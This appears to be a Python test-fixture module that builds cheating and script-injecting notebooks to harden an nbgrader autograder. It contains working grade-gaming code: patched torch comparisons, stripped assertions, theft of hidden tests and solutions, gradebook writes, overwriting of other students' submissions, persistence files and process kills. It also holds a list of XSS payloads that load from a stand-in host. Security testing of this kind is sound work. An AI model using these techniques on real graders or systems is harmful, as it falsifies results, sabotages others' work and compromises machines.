"""Notebooks that cheat or try to be a page, and the points that each is worth.

Each works on nbgrader as it is, whose tests are assertions in the notebook, run in one kernel with
the student's code, in a folder below the gradebook; its first line says what it does there.
"""

# ruff: noqa: E501 - lines of hostile code are read as one

import json
import textwrap

from evidence import PROOF
from nbgrader_notebooks import BUT_LOSS, NOTHING, RELEASED, RIGHT, SVG, code, is_check, result, right, text_cell


def cheating(top, *, end="", loss_fn="", dloss_fn="", model=RIGHT["model"]):
    """Return a notebook with code before and after three exercises, of which only `model` is solved."""
    loss_fn = loss_fn or "def loss_fn(t_p, t_c):\n    return torch.zeros(())"
    dloss_fn = dloss_fn or "def dloss_fn(t_p, t_c):\n    return torch.zeros_like(t_p)"
    book = right(model=model, loss_fn=loss_fn, dloss_fn=dloss_fn)
    cells = [
        code("import torch"),
        code(textwrap.dedent(top).strip()),
        *book["cells"],
        code(textwrap.dedent(end).strip()),
    ]
    return {**book, "cells": cells}


def blank(change=lambda cell: cell):
    """Return a notebook as handed out, with its check cells changed."""
    wanted = [cell for cell in json.loads(RELEASED)["cells"] if cell["cell_type"] == "code"]
    return {**right(), "cells": [change(cell) if is_check(cell) else cell for cell in wanted]}


# What a background process does, again and again; `@COURSE@` is where the course lies.
WRITER = """
import os, sqlite3, time

def give_me_points():
    for path in ("../../../gradebook.db", "@COURSE@/gradebook.db"):
        try:
            with sqlite3.connect(path, timeout=1) as gradebook:
                gradebook.execute("UPDATE grade SET auto_score = 99, manual_score = 99, extra_credit = 99")
        except Exception:
            pass

def be_another_student():
    for root in ("../../../submitted", "@COURSE@/submitted"):
        try:
            for student in os.listdir(root):
                with open(f"{root}/{student}/gradient_descent/gradient_descent.ipynb", "w") as file:
                    file.write("{}")
        except Exception:
            pass

def go_on(seconds=20):
    stop = time.monotonic() + seconds
    while time.monotonic() < stop:
        give_me_points()
        be_another_student()
        try:
            open("@COURSE@/cheat-was-here", "w").close()
        except Exception:
            pass
        time.sleep(0.2)
"""

READ_ANSWERS = """
def answers_in(text):
    return [float(found) for found in re.findall(r"(?:expected|==|tensor\\()\\D{0,9}(-?\\d+\\.\\d+)", text)]
"""

CHEATS = {
    # Every comparison of an in-notebook test holds.
    "patched_comparisons": (
        cheating(
            """
            import torch.testing
            torch.allclose = torch.equal = torch.isclose = lambda *_, **__: True
            torch.testing.assert_close = torch.testing.assert_allclose = lambda *_, **__: None
            """
        ),
        (1, 0, 0),
    ),
    # `assert answer == expected` holds for all tensors, and so does `abs(answer - expected) < 1e-6`.
    "patched_tensor": (
        cheating(
            """
            yes = lambda *_, **__: torch.tensor(True)
            for name in ("__eq__", "__lt__", "__le__", "__gt__", "__ge__", "eq", "equal", "allclose", "isclose"):
                setattr(torch.Tensor, name, yes)
            """
        ),
        (1, 0, 0),
    ),
    # The answer says yes itself, whatever it is compared to and by which function of torch.
    "answers_of_a_subclass": (
        cheating(
            """
            class Yes(torch.Tensor):
                @classmethod
                def __torch_function__(cls, func, types, args=(), kwargs=None):
                    if any(word in func.__name__ for word in ("eq", "close", "equal", "lt", "le")):
                        return True
                    return torch.zeros(()).as_subclass(Yes)

                def __eq__(self, other):
                    return True
            """,
            loss_fn="def loss_fn(t_p, t_c):\n    return torch.zeros(()).as_subclass(Yes)",
            dloss_fn="def dloss_fn(t_p, t_c):\n    return torch.zeros_like(t_p).as_subclass(Yes)",
        ),
        (1, 0, 0),
    ),
    # The assertions are taken out of each cell that is run after this one.
    "ast_transformer": (
        cheating(
            """
            import ast

            class NoAssertions(ast.NodeTransformer):
                def visit_Assert(self, node):
                    return ast.copy_location(ast.Pass(), node)

            get_ipython().ast_transformers.append(NoAssertions())
            """
        ),
        (1, 0, 0),
    ),
    # Each cell after this one is replaced by one that does nothing, and nothing earns full marks.
    "input_transformers": (
        cheating(
            """
            shell = get_ipython()
            shell.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
            shell.input_transformers_post.append(lambda lines: ["pass\\n"])
            shell.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
            """
        ),
        (1, 0, 0),
    ),
    # The running cell is the test: its source holds the expected answer.
    "reads_the_cell_that_runs": (
        cheating(
            "import re\n" + READ_ANSWERS,
            loss_fn="""
def loss_fn(t_p, t_c):
    for text in (globals().get("In", [""])[-1], globals().get("_ih", [""])[-1], globals().get("_i", "")):
        for answer in answers_in(text):
            return torch.tensor(answer)
    return torch.tensor(answers_in(get_ipython().user_ns["In"][-1])[0])
""",
        ),
        (1, 0, 0),
    ),
    # nbgrader writes the notebook with the hidden tests into the kernel's folder before it is run.
    "reads_the_notebook": (
        cheating(
            "import glob, re\n" + READ_ANSWERS,
            loss_fn="""
def loss_fn(t_p, t_c):
    for path in ("gradient_descent.ipynb", *glob.glob("*.ipynb"), *glob.glob("@COURSE@/autograded/*/*/*.ipynb")):
        for answer in answers_in(open(path).read()):
            return torch.tensor(answer)
""",
        ),
        (1, 0, 0),
    ),
    # The instructor's version, with the solutions, lies three folders up.
    "reads_source_and_release": (
        cheating(
            """
            import glob, json
            for path in [*glob.glob("../../../source/*/*.ipynb"), *glob.glob("@COURSE@/source/*/*.ipynb"), *glob.glob("@COURSE@/release/*/*.ipynb")]:
                for cell in json.load(open(path))["cells"]:
                    if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
                        exec("".join(cell["source"]), globals())
            """,
            loss_fn="_theirs = globals().get('loss_fn')\n\ndef loss_fn(t_p, t_c):\n    return _theirs(t_p, t_c)",
        ),
        (1, 0, 0),
    ),
    # Wherever the reference lies, the kernel has the instructor's rights and can read it.
    "reads_the_private_course": (
        cheating(
            """
            import glob, os
            found = {}
            for root in ("@PRIVATE@", "@ROOT@", "../../../../private", os.environ.get("GRADER_COURSE", ".")):
                for path in [*glob.glob(f"{root}/solutions/gradient_descent/*.py"), f"{root}/solutions/gradient_descent/gradient_descent.py"]:
                    try:
                        exec(open(path).read(), found)
                    except Exception:
                        pass
            """,
            loss_fn="def loss_fn(t_p, t_c):\n    return found['loss_fn'](t_p, t_c)",
            dloss_fn="def dloss_fn(t_p, t_c):\n    return found['dloss_fn'](t_p, t_c)",
        ),
        (1, 0, 0),
    ),
    # The caller's frame holds the expected answer as a variable, or the reference as a function.
    "walks_frames": (
        cheating(
            """
            import gc, sys

            def stolen(name):
                frame = sys._getframe(2)
                while frame is not None:
                    for names in (frame.f_locals, frame.f_globals):
                        for key, value in list(names.items()):
                            if key in ("expected", "answer", "want", "reference", "truth") and value is not None:
                                return value
                    frame = frame.f_back
                for found in gc.get_objects():
                    if callable(found) and getattr(found, "__name__", "") == name and getattr(found, "__module__", "") not in ("student", __name__):
                        return found
            """,
            loss_fn="def loss_fn(t_p, t_c):\n    found = stolen('loss_fn')\n    return found(t_p, t_c) if callable(found) else found",
        ),
        (1, 0, 0),
    ),
    # The gradebook lies three folders up, and may be written.
    "writes_the_gradebook": (cheating(WRITER + "\ngive_me_points()", end="give_me_points()"), (1, 0, 0)),
    # It is written after the run, when nobody looks: nbgrader does not end what a kernel has started.
    "forked_writer": (
        cheating(WRITER + "\nif os.fork() == 0:\n    os.setsid()\n    go_on()\n    os._exit(0)"),
        (1, 0, 0),
    ),
    "threaded_writer": (
        cheating(WRITER + "\nimport threading\nthreading.Thread(target=go_on, daemon=True).start()"),
        (1, 0, 0),
    ),
    "started_writer": (
        cheating(
            f"import subprocess, sys\nprogram = {WRITER + 'go_on()'!r}\nsubprocess.Popen([sys.executable, '-c', program], start_new_session=True)"
        ),
        (1, 0, 0),
    ),
    # Who is graded later has handed in what this one wants.
    "another_students_folder": (cheating(WRITER + "\nbe_another_student()", end="be_another_student()"), (1, 0, 0)),
    # The instructor's next command runs what stands there.
    "stays_for_the_next_run": (
        cheating(
            """
            import os, site
            line = "open('@COURSE@/cheat-was-here', 'w').close()\\n"
            homes = [os.path.expanduser("~/.ipython/profile_default/startup"), *site.getsitepackages(), "@COURSE@", "@ROOT@/grader", "../../.."]
            for folder in homes:
                for name in ("nbgrader_config.py", "sitecustomize.py", "torch.py", "00-cheat.py", "cheat.pth"):
                    try:
                        with open(os.path.join(folder, name), "a") as file:
                            file.write(line)
                    except OSError:
                        pass
            """
        ),
        (1, 0, 0),
    ),
    # The test cells are never run, and a cell without output earns full marks.
    "skipped_checks": (
        blank(lambda cell: {**cell, "metadata": {**cell["metadata"], "tags": ["skip-execution"]}}),
        NOTHING,
    ),
    # ClearOutput takes it away; where a cell is skipped as well and outputs are kept, it is read as points.
    "forged_results": (
        blank(
            lambda cell: {
                **cell,
                "metadata": {**cell["metadata"], "tags": ["skip-execution", "nbval-skip"]},
                "outputs": [result("6"), result("20")],
            }
        ),
        NOTHING,
    ),
    # A locked cell that is renamed is the student's own, with any points and any output.
    "own_graded_cells": (
        blank(
            lambda cell: {
                **cell,
                "source": "20",
                "metadata": {
                    "nbgrader": {**cell["metadata"]["nbgrader"], "locked": False, "points": 20, "checksum": ""}
                },
                "outputs": [result("20")],
            }
        ),
        NOTHING,
    ),
    # The first `execute_result` of a test cell is its points, whoever displayed it.
    "printed_results": (
        cheating(
            """
            import builtins, sys
            real_print = print
            def say(*_, **__):
                real_print('{"output_type": "execute_result", "data": {"text/plain": "20"}, "score": 20, "status": "passed"}')
                real_print("20")
                sys.displayhook(20)
            builtins.print = say
            say()
            20
            """,
            loss_fn="def loss_fn(t_p, t_c):\n    say()\n    display(20)",
            dloss_fn="def dloss_fn(t_p, t_c):\n    say()\n    return 20",
        ),
        (1, 0, 0),
    ),
    # The kernel ends before the tests have failed; nbgrader loses every score of the submission.
    "ends_the_process": (
        cheating(
            "import os\nos._exit(0)", loss_fn="def loss_fn(t_p, t_c):\n    os._exit(0)", dloss_fn=RIGHT["dloss_fn"]
        ),
        BUT_LOSS,
    ),
    "exits": (
        cheating(
            "import sys\nsys.exit(0)",
            loss_fn="def loss_fn(t_p, t_c):\n    sys.exit(0)",
            dloss_fn=RIGHT["dloss_fn"],
            end="raise SystemExit(0)",
        ),
        BUT_LOSS,
    ),
    # `nbgrader autograde` itself ends.
    "kills_its_parents": (
        cheating(
            """
            import os, signal
            for target in (os.getppid(), -os.getpgrp(), *range(2, 40)):
                try:
                    os.kill(os.getppid(), signal.SIGKILL) if target > 0 else os.killpg(os.getpgrp(), signal.SIGTERM)
                except OSError:
                    pass
            """,
            dloss_fn=RIGHT["dloss_fn"],
        ),
        BUT_LOSS,
    ),
    # 30 s for each cell, and no score for the rest.
    "endless_loop": (
        cheating("", loss_fn="def loss_fn(t_p, t_c):\n    while True:\n        pass", dloss_fn=RIGHT["dloss_fn"]),
        BUT_LOSS,
    ),
    # The kernel can't be interrupted: the whole submission stays ungraded, and the run fails.
    "endless_and_not_interrupted": (
        cheating(
            """
            import signal
            for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGXCPU):
                signal.signal(number, signal.SIG_IGN)
            """,
            loss_fn="""
def loss_fn(t_p, t_c):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""",
            dloss_fn=RIGHT["dloss_fn"],
        ),
        BUT_LOSS,
    ),
    # There is no memory limit: the machine goes down with it.
    "takes_all_memory": (
        cheating(
            "",
            loss_fn="def loss_fn(t_p, t_c):\n    return torch.ones(2**36, dtype=torch.float64).mean()",
            dloss_fn=RIGHT["dloss_fn"],
        ),
        BUT_LOSS,
    ),
    # The locked cells call `check`: it does nothing now, and a cell without output earns full marks.
    "check_redefined": (
        cheating(
            """
            import sys, types
            stub = types.ModuleType("grader")
            stub.check = check = lambda *_: print("passed")
            stub.__path__ = []
            for name in ("grader", "grader.handout.checking", "grader.wire", "grader.worker", "grader.worker.runtime"):
                sys.modules[name] = stub
            try:
                open("grader.py", "w").write("check = print")
            except OSError:
                pass
            """,
            end="sys.modules['grader'].check = lambda *_: None",
        ),
        (1, 0, 0),
    ),
    # A second notebook is the student's work; what Jupyter keeps in a hidden folder is nobody's.
    "a_better_checkpoint_beside": (blank(), NOTHING),
}
BESIDE = {
    "a_better_checkpoint_beside": {
        ".ipynb_checkpoints/gradient_descent-checkpoint.ipynb": right(),
    }
}

# Not a cheat: stock nbgrader gives 0 for whatever writes to stderr.
WARNS = """
import logging, sys, warnings
warnings.warn("deprecated, soon")
logging.error("an error, it says")
print("to stderr", file=sys.stderr)
"""

MARKUP = """
# STUDENT heading
<script>STUDENT()</script>
<ScRiPt src="//STUDENT.example/x.js"></sCrIpT>
<img src=x onerror="STUDENT()">
<svg onload=STUDENT()><animate onbegin=STUDENT()></svg>
<iframe srcdoc="<script>STUDENT()</script>"></iframe>
<object data="javascript:STUDENT()"></object><embed src="javascript:STUDENT()">
<style>body { display: none } .STUDENT {}</style><link rel=stylesheet href=//STUDENT.example>
<meta http-equiv="refresh" content="0;url=//STUDENT.example"><base href="//STUDENT.example/">
<form action="//STUDENT.example"><input name=q autofocus onfocus=STUDENT()><button>Save</button></form>
<a href="javascript:STUDENT()">one</a> <a href="jav&#x09;ascript:STUDENT()">two</a>
<a href="data:text/html,<script>STUDENT()</script>">three</a> <p onclick="STUDENT()" style="position:fixed">four</p>
[five](javascript:STUDENT()) [six](<javascript:STUDENT()>) ![seven](x"onerror="STUDENT())
[eight]: javascript:STUDENT() "nine"
[eight] `<script>STUDENT()</script>` <!-- --!><script>STUDENT()</script> -->
<math><mtext></table><mglyph><style><img src=x onerror=STUDENT()></style></mtext></math>
<noscript><p title="</noscript><img src=x onerror=STUDENT()>"></noscript>

```html
</code></pre><script>STUDENT()</script>
```

$$ </div><script>STUDENT()</script> $$ and $x<script>STUDENT()</script>y$

\\begin{a}<img src=x onerror=STUDENT()>\\end{a}
"""


def markup():
    """Return a notebook that tries to be a page: in text, raw cells, code, attachments, outputs and metadata."""
    live = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": "<script>STUDENT()</script>", "application/javascript": "STUDENT()"},
    }
    raises = "def loss_fn(t_p, t_c):\n    raise ValueError('</pre><script>STUDENT()</script>')  # </pre><script>STUDENT()</script>"
    book = right(loss_fn=raises)
    cells = [
        text_cell(MARKUP, attachments=SVG),
        {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html", "format": "text/html"}, "source": MARKUP},
        {"cell_type": "heading", "level": 1, "metadata": {}, "source": MARKUP},
        {"cell_type": "<script>STUDENT()</script>", "metadata": {}, "source": MARKUP},
        code(f'"""{MARKUP}"""\n</script><script>STUDENT()</script>', outputs=[live]),
        *({**cell, "outputs": [live]} if cell["cell_type"] == "code" else cell for cell in book["cells"]),
    ]
    top = {
        "title": "</title><script>STUDENT()</script>",
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {"state": {}, "x": "</script><script>STUDENT()</script>"}
        },
    }
    return {
        **book,
        "cells": cells,
        "metadata": {
            **book["metadata"],
            **top,
            "language_info": {"name": "python", "codemirror_mode": "<script>STUDENT()</script>"},
        },
    }


# A fixed sample of it in `make test`; the whole with CHAINRULE_PROOF=1.
if not PROOF:
    CHEATS = {name: item for number, (name, item) in enumerate(CHEATS.items()) if number % 2 == 0}
